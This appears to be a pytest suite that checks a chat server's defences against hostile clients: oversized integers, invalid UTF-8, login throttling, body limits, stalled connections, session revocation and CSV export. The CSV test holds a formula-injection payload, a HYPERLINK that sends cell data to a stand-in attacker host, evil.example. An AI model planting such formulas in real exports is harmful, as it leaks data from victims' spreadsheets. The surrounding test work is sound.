"""What a hostile or broken client finds at the edges: bad positions, bad bytes, CSV formulas,
an open /metrics. Each runs on a real server, on both backends where the store is involved."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
from collections.abc import Iterator

import httpx
import pytest
from websockets.exceptions import ConnectionClosed

from chatserver.domain import protocol as p
from chatserver.store.ports import StoreUnavailable
from tests.conftest import TIMEOUT, Client, Server, ServerFactory

INT64_MAX = 2**63 - 1


async def login(server: Server, agent_id: str, role: str = "agent") -> str:
    await server.hub.accounts.add(agent_id, agent_id.title(), "pw-" + agent_id, role=role)  # type: ignore[arg-type]
    async with httpx.AsyncClient(base_url=server.url) as client:
        reply = await client.post(
            "/api/login", json={"username": agent_id, "password": "pw-" + agent_id}
        )
    assert reply.status_code == 200, reply.text
    return str(reply.json()["token"])


async def closed_with(client_ws: object) -> tuple[int | None, str]:
    """Wait for the server to close a socket; its close code and reason."""
    ws = client_ws  # a websockets ClientConnection
    try:
        while True:
            await ws.recv()  # type: ignore[attr-defined]
    except ConnectionClosed as closed:
        frame = closed.rcvd
        return (frame.code, frame.reason) if frame is not None else (None, "")


# --- item 11: positions beyond int64 or beyond the log -----------------------------------------


@pytest.mark.parametrize("value", [str(INT64_MAX + 1), "1" + "0" * 400], ids=["2^63", "10^400"])
async def test_a_last_seq_beyond_int64_is_refused_with_a_clear_error(
    server: Server, value: str
) -> None:
    shopper = await server.raw("/ws/shopper", origin=server.settings.base_url)
    await shopper.send(f'{{"type": "hello", "version": {p.PROTOCOL_VERSION}, "last_seq": {value}}}')
    error = await shopper.expect("error", frame_type="hello")
    assert error["code"] == "invalid_frame" and "last_seq" in error["message"]
    agent = await server.raw("/ws/agent")
    await agent.send(
        f'{{"type": "hello", "version": {p.PROTOCOL_VERSION}, "last_seqs": {{"c-1": {value}}}}}'
    )
    error = await agent.expect("error", frame_type="hello")
    assert "last_seqs.c-1" in error["message"]
    # The sockets still work: a proper hello is welcomed.
    await shopper.send(p.Hello(version=p.PROTOCOL_VERSION))
    await shopper.expect("welcome")


async def test_a_last_seq_beyond_the_log_is_clamped_and_live_events_still_arrive(
    server: Server,
) -> None:
    shopper = await server.shopper()
    await shopper.send(p.SendMessage(client_id="m1", text="hello?"))
    ack = await shopper.expect("ack", client_id="m1")
    alice = await server.agent("alice", capacity=1)
    conversation_id = ack["conversation_id"]
    await alice.expect("conversation_assigned", conversation_id=conversation_id)
    token = shopper.received[0]["token"]
    await shopper.close()

    again = await server.shopper(token=token, last_seq=INT64_MAX)
    error = await again.expect("error", frame_type="hello")
    assert "beyond the end" in error["message"]
    await alice.send(p.SendMessage(conversation_id=conversation_id, client_id="a1", text="Hi!"))
    posted = await again.expect("message_posted", text="Hi!")
    assert posted["seq"] < 100
    # An agent claiming too much on its own chat also gets live events again.
    await alice.close()
    back = await server.agent("alice", capacity=1, last_seqs={conversation_id: 10**12})
    await back.expect("error", frame_type="hello")
    await again.send(p.SendMessage(client_id="m2", text="still there?"))
    await back.expect("message_posted", text="still there?")


# --- item 12: invalid UTF-8 ---------------------------------------------------------------------


class Recorder(logging.Handler):
    """Keeps the records of a logger that does not propagate to the root (uvicorn's)."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def uvicorn_log() -> Iterator[Recorder]:
    recorder, logger = Recorder(), logging.getLogger("uvicorn.error")
    logger.addHandler(recorder)
    yield recorder
    logger.removeHandler(recorder)


async def test_invalid_utf8_closes_1007_without_a_traceback(
    server: Server, caplog: pytest.LogCaptureFixture, uvicorn_log: Recorder
) -> None:
    caplog.set_level(logging.INFO)
    shopper = await server.shopper()
    await shopper.ws.send(b'{"type": "typing", "x": "\xff\xfe"}', text=True)
    code, _ = await closed_with(shopper.ws)
    assert code == 1007
    # The server carries on, and logged no traceback for it.
    other = await server.shopper()
    await other.send(p.SendMessage(client_id="m1", text="fine"))
    await other.expect("ack", client_id="m1")
    records = caplog.records + uvicorn_log.records
    assert any("Invalid UTF-8" in r.getMessage() for r in records)
    assert not [r for r in records if r.exc_info], [r.getMessage() for r in records]


# --- item 16: CSV injection ---------------------------------------------------------------------


async def test_formulas_in_comments_and_tags_reach_csv_as_text(server: Server) -> None:
    token = await login(server, "mona", "manager")
    shopper = await server.shopper()
    await shopper.send(p.SendMessage(client_id="m1", text="hello"))
    conversation_id = (await shopper.expect("ack", client_id="m1"))["conversation_id"]
    alice = await server.agent("alice", capacity=1)
    await alice.expect("conversation_assigned", conversation_id=conversation_id)
    await alice.send(p.SetTags(conversation_id=conversation_id, tags=["+sum(a1:a9)", "@cmd"]))
    await alice.expect("tags_changed")
    await alice.send(p.CloseConversation(conversation_id=conversation_id))
    await shopper.expect("conversation_closed")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await shopper.send(p.Rate(score=1, comment=formula))
    await shopper.expect("rating_given")

    headers = {"Authorization": f"Bearer {token}"}
    async with httpx.AsyncClient(base_url=server.url, headers=headers) as client:
        comments = (await client.get("/api/reports/comments.csv")).text
        tags = (await client.get("/api/reports/tags.csv")).text
    comment_cells = [row[3] for row in csv.reader(io.StringIO(comments))][1:]
    assert comment_cells == ["'" + formula]
    tag_cells = sorted(row[0] for row in csv.reader(io.StringIO(tags)))[:-1]
    assert tag_cells == ["'+sum(a1:a9)", "'@cmd"]


# --- item 17: /metrics --------------------------------------------------------------------------


async def test_metrics_ask_for_the_bearer_token_when_one_is_set(
    start_server: ServerFactory,
) -> None:
    server = await start_server(metrics_token="scrape-me")
    async with httpx.AsyncClient(base_url=server.url) as client:
        assert (await client.get("/metrics")).status_code == 401
        wrong = await client.get("/metrics", headers={"Authorization": "Bearer nope"})
        assert wrong.status_code == 401
        ok = await client.get("/metrics", headers={"Authorization": "Bearer scrape-me"})
        assert ok.status_code == 200 and "chat_queue_length" in ok.text


async def test_metrics_without_a_token_stay_open_and_the_start_says_so(
    start_server: ServerFactory, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING)
    server = await start_server()
    async with httpx.AsyncClient(base_url=server.url) as client:
        assert (await client.get("/metrics")).status_code == 200
    assert any("/metrics is open" in r.getMessage() for r in caplog.records)


async def test_a_store_error_while_catching_up_closes_the_socket_to_resume_later(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    shopper = await server.shopper()
    await shopper.send(p.SendMessage(client_id="m1", text="hello"))
    await shopper.expect("ack", client_id="m1")
    token = shopper.received[0]["token"]
    read = server.hub.store.log.read

    async def failing(conversation_id: str, after_seq: int = 0) -> list[tuple[int, str]]:
        if after_seq == 1:  # the session's catch-up after the claimed seq 1
            raise StoreUnavailable("stream read failed")
        return await read(conversation_id, after_seq)

    monkeypatch.setattr(server.hub.store.log, "read", failing)
    again = await server.shopper(token=token, last_seq=1)
    code, _ = await closed_with(again.ws)
    assert code == 1013  # try again later: the client reconnects and resumes from its seq


# --- item 15: sockets that never say hello, go quiet, or come in crowds ------------------------


async def test_a_socket_that_never_says_hello_is_closed(server: Server) -> None:
    silent = await server.raw("/ws/shopper", origin=server.settings.base_url)
    await server.clock.advance(server.settings.hello_timeout_s - 1)
    talker = await server.shopper()  # one that says hello in time is kept
    await server.clock.advance(2)
    error = await silent.expect("error", code="timeout")
    assert "no hello" in error["message"]
    assert await closed_with(silent.ws) == (1008, error["message"])
    await talker.send(p.SendMessage(client_id="m1", text="still here"))
    await talker.expect("ack", client_id="m1")


async def test_an_idle_socket_is_closed_and_a_talking_one_kept(
    start_server: ServerFactory,
) -> None:
    server = await start_server(idle_timeout_s=600)
    quiet, talker = await server.shopper(), await server.shopper()
    await server.clock.advance(400)
    await talker.send(p.SendMessage(client_id="m0", text="a frame resets the idle time"))
    await talker.expect("ack", client_id="m0")
    await server.clock.advance(201)
    await quiet.expect("error", code="timeout")
    code, reason = await closed_with(quiet.ws)
    assert code == 1000 and "no frame for 600 s" in reason
    await talker.send(p.SendMessage(client_id="m1", text="here"))
    await talker.expect("ack", client_id="m1")


async def test_too_many_sockets_from_one_address_are_refused(start_server: ServerFactory) -> None:
    server = await start_server(max_sockets_per_address=2)
    first, _ = await server.shopper(), await server.agent("alice")
    third = await server.raw("/ws/shopper", origin=server.settings.base_url)
    error = await third.expect("error", code="too_many_sockets")
    assert await closed_with(third.ws) == (1013, error["message"])
    await first.close()

    async def admitted() -> bool:  # once the server has seen the first one go
        client = await server.raw("/ws/shopper", origin=server.settings.base_url)
        try:
            await client.send(p.Hello(version=p.PROTOCOL_VERSION))
        except ConnectionClosed:  # refused before the hello went out: not yet
            return False
        return await _welcomed(client)

    await server.until(admitted)


async def _welcomed(client: Client) -> bool:
    try:
        while True:
            frame = json.loads(await client.ws.recv())
            client.received.append(frame)
            if frame["type"] in ("welcome", "error"):
                return frame["type"] == "welcome"
    except ConnectionClosed:
        return False


# --- item 14: sessions end when their reason goes -----------------------------------------------


async def agent_socket(server: Server, agent_id: str, token: str) -> Client:
    client = await server.raw("/ws/agent")
    await client.send(p.Hello(version=p.PROTOCOL_VERSION, token=token))
    await client.expect("welcome")
    return client


async def test_an_agent_socket_closes_when_its_session_expires(
    start_server: ServerFactory,
) -> None:
    server = await start_server(session_max_age_s=3600, session_check_s=60)
    token = await login(server, "alice")
    alice = await agent_socket(server, "alice", token)
    await server.clock.advance(3000)
    await alice.send(p.SetStatus(status="online"))
    await alice.expect("status_changed", status="online")  # still served
    await server.clock.advance(601)
    error = await alice.expect("error", code="unauthorized")
    assert "expired" in error["message"]
    assert (await closed_with(alice.ws))[0] == 1008


async def test_a_password_reset_ends_the_sessions_it_had(server: Server) -> None:
    old_token = await login(server, "mona", "manager")
    old = await agent_socket(server, "mona", old_token)
    await server.hub.accounts.add("mona", "Mona", "new-secret", role="manager")
    error = await old.expect("error", code="unauthorized")
    assert "password was changed" in error["message"]
    assert (await closed_with(old.ws))[0] == 1008
    async with httpx.AsyncClient(base_url=server.url) as client:
        stale = await client.get(
            "/api/reports/live", headers={"Authorization": f"Bearer {old_token}"}
        )
        assert stale.status_code == 401
        upload = await client.post(
            "/api/conversations/c-1/files",
            headers={"Authorization": f"Bearer {old_token}", "X-File-Name": "a.png"},
            content=b"\x89PNG",
        )
        assert upload.status_code == 401
        fresh = await client.post("/api/login", json={"username": "mona", "password": "new-secret"})
    new = await agent_socket(server, "mona", fresh.json()["token"])
    refused = await server.raw("/ws/agent")
    await refused.send(p.Hello(version=p.PROTOCOL_VERSION, token=old_token))
    await refused.expect("error", code="unauthorized")
    await new.send(p.SetStatus(status="online"))
    await new.expect("status_changed", status="online")


async def test_a_password_reset_on_the_admin_page_ends_the_sessions_it_had(
    server: Server,
) -> None:
    admin = await login(server, "boss", "admin")
    old = await agent_socket(server, "mona", await login(server, "mona", "manager"))
    async with httpx.AsyncClient(base_url=server.url) as client:
        reset = await client.post(
            "/api/admin/agents/mona/password",
            headers={"Authorization": f"Bearer {admin}", "Origin": server.url},
        )
    assert reset.status_code == 200 and reset.json()["password"]
    error = await old.expect("error", code="unauthorized")
    assert "password was changed" in error["message"]
    assert (await closed_with(old.ws))[0] == 1008


async def test_removing_an_agent_closes_their_socket(server: Server) -> None:
    alice = await server.agent("alice")
    assert await server.hub.accounts.remove("alice")
    error = await alice.expect("error", code="unauthorized")
    assert "no longer exists" in error["message"]
    assert (await closed_with(alice.ws))[0] == 1008


async def test_an_account_changed_elsewhere_ends_the_session_at_the_next_check(
    start_server: ServerFactory,
) -> None:
    """As `chatserver agents remove` in another process does on the embedded store (no bus)."""
    server = await start_server(session_check_s=60)
    alice = await server.agent("alice")
    await server.hub.store.accounts.remove("alice")
    await server.clock.advance(61)
    await alice.expect("error", code="unauthorized")
    assert (await closed_with(alice.ws))[0] == 1008


@pytest.mark.redis
@pytest.mark.parametrize("backend_kind", ["redis"], indirect=False)
async def test_a_reset_on_one_worker_ends_the_session_on_another(
    start_server: ServerFactory, backend_kind: str
) -> None:
    one, two = await start_server(secret_key="shared"), await start_server(secret_key="shared")
    token = await login(one, "alice")
    on_two = await agent_socket(two, "alice", token)
    await one.hub.accounts.add("alice", "Alice", "reset")
    error = await on_two.expect("error", code="unauthorized")
    assert "password was changed" in error["message"]
    assert (await closed_with(on_two.ws))[0] == 1008


# --- item 13: login throttle and body limits ----------------------------------------------------


def from_address(server: Server, address: str) -> httpx.AsyncClient:
    """An HTTP client whose connections come from another loopback address."""
    transport = httpx.AsyncHTTPTransport(local_address=address)
    return httpx.AsyncClient(base_url=server.url, transport=transport)


async def test_login_is_throttled_per_account_with_retry_after(server: Server) -> None:
    await server.hub.accounts.add("alice", "Alice", "right-password")
    limit, window = server.settings.login_attempts, server.settings.login_window_s
    async with from_address(server, "127.0.0.1") as client:
        for _ in range(limit):
            wrong = await client.post("/api/login", json={"username": "alice", "password": "guess"})
            assert wrong.status_code == 401
        right = {"username": "alice", "password": "right-password"}
        refused = await client.post("/api/login", json=right)
        assert refused.status_code == 429
        assert 0 < int(refused.headers["retry-after"]) <= window
        assert "too many failed logins" in refused.json()["error"]
    async with from_address(server, "127.0.0.2") as elsewhere:  # the account, from anywhere
        assert (await elsewhere.post("/api/login", json=right)).status_code == 429
        await server.clock.advance(window)
        assert (await elsewhere.post("/api/login", json=right)).status_code == 200


async def test_login_is_throttled_per_address(server: Server) -> None:
    await server.hub.accounts.add("bob", "Bob", "bobs-password")
    good = {"username": "bob", "password": "bobs-password"}
    async with from_address(server, "127.0.0.3") as sprayer:
        for n in range(server.settings.login_attempts):
            guess = {"username": f"user{n}", "password": "123456"}
            assert (await sprayer.post("/api/login", json=guess)).status_code == 401
        throttled = await sprayer.post("/api/login", json=good)
        assert throttled.status_code == 429 and "retry-after" in throttled.headers
    async with from_address(server, "127.0.0.4") as other:
        assert (await other.post("/api/login", json=good)).status_code == 200


async def raw_http(server: Server, head: bytes, body_chunks: tuple[bytes, ...] = ()) -> bytes:
    """Send a request's head (and maybe some body) on a raw socket; what came back."""
    reader, writer = await asyncio.open_connection("127.0.0.1", int(server.url.rsplit(":", 1)[1]))
    try:
        writer.write(head)
        for chunk in body_chunks:
            writer.write(chunk)
        await writer.drain()
        return await asyncio.wait_for(reader.read(65536), TIMEOUT)
    finally:
        writer.transport.abort()  # a refused body may still be buffered: do not wait to send it


async def test_a_declared_oversized_body_is_refused_before_it_is_sent(server: Server) -> None:
    for path in (b"/api/login", b"/api/reports", b"/metrics"):
        head = (
            b"POST " + path + b" HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 104857600\r\n\r\n"
        )
        reply = await raw_http(server, head)  # not one byte of the 100 MiB body sent
        assert reply.startswith(b"HTTP/1.1 413"), reply[:100]
        assert b"request body too large" in reply


async def test_a_chunked_body_is_refused_once_it_passes_the_limit(server: Server) -> None:
    head = (
        b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"  # 16 KiB each, never a last chunk
    chunks = (chunk,) * (server.settings.max_body_bytes // 0x4000 + 2)
    reply = await raw_http(server, head, chunks)
    assert reply.startswith(b"HTTP/1.1 413"), reply[:100]
    async with httpx.AsyncClient(base_url=server.url) as client:  # a normal body still works
        small = await client.post("/api/login", json={"username": "x", "password": "y"})
        assert small.status_code == 401


async def test_http_connections_that_never_finish_their_headers_are_closed(
    start_server: ServerFactory,
) -> None:
    server = await start_server(http_timeout_s=0.5)
    port = int(server.url.rsplit(":", 1)[1])
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"GET /api/health HTTP/1.1\r\nHost: x\r\nX-Slow: ")  # and nothing more
    await writer.drain()
    assert await asyncio.wait_for(reader.read(), TIMEOUT) == b""  # closed by the server
    writer.close()
    silent_reader, silent = await asyncio.open_connection("127.0.0.1", port)
    assert await asyncio.wait_for(silent_reader.read(), TIMEOUT) == b""
    silent.close()
    async with httpx.AsyncClient(base_url=server.url) as client:  # whole requests are served
        assert (await client.get("/api/health")).status_code == 200
